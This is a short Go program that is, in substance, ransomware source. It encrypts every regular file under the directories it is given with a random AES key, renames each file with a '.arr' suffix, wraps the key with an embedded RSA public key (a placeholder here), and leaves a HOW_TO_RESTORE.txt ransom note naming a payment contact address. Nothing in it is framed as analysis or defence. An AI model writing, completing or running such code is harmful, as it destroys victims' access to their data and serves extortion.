package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/pem"
	"io/fs"
	"os"
	"path/filepath"
	"sync"
)

const pub = `-----BEGIN PUBLIC KEY-----
MADEUPKEYMADEUPKEYMADEUPKEYMADEUPKEYMADEUPKEY
-----END PUBLIC KEY-----`

func seal(p string, key []byte) {
	b, err := os.ReadFile(p)
	if err != nil {
		return
	}
	iv := make([]byte, 16)
	rand.Read(iv)
	blk, _ := aes.NewCipher(key)
	cipher.NewCTR(blk, iv).XORKeyStream(b, b)
	if os.WriteFile(p, append(iv, b...), 0o600) == nil {
		os.Rename(p, p+".arr")
	}
}

func main() {
	key := make([]byte, 32)
	rand.Read(key)
	blk, _ := pem.Decode([]byte(pub))
	pk, err := x509.ParsePKIXPublicKey(blk.Bytes)
	if err != nil {
		os.Exit(1)
	}
	wrapped, _ := rsa.EncryptOAEP(sha256.New(), rand.Reader, pk.(*rsa.PublicKey), key, nil)
	ch := make(chan string, 256)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for p := range ch {
				seal(p, key)
			}
		}()
	}
	for _, root := range os.Args[1:] {
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() && filepath.Ext(p) != ".arr" {
				ch <- p
			}
			return nil
		})
		os.WriteFile(filepath.Join(root, "HOW_TO_RESTORE.txt"), append([]byte("Write to restore@pay.invalid with this id: "), wrapped...), 0o644)
	}
	close(ch)
	wg.Wait()
}
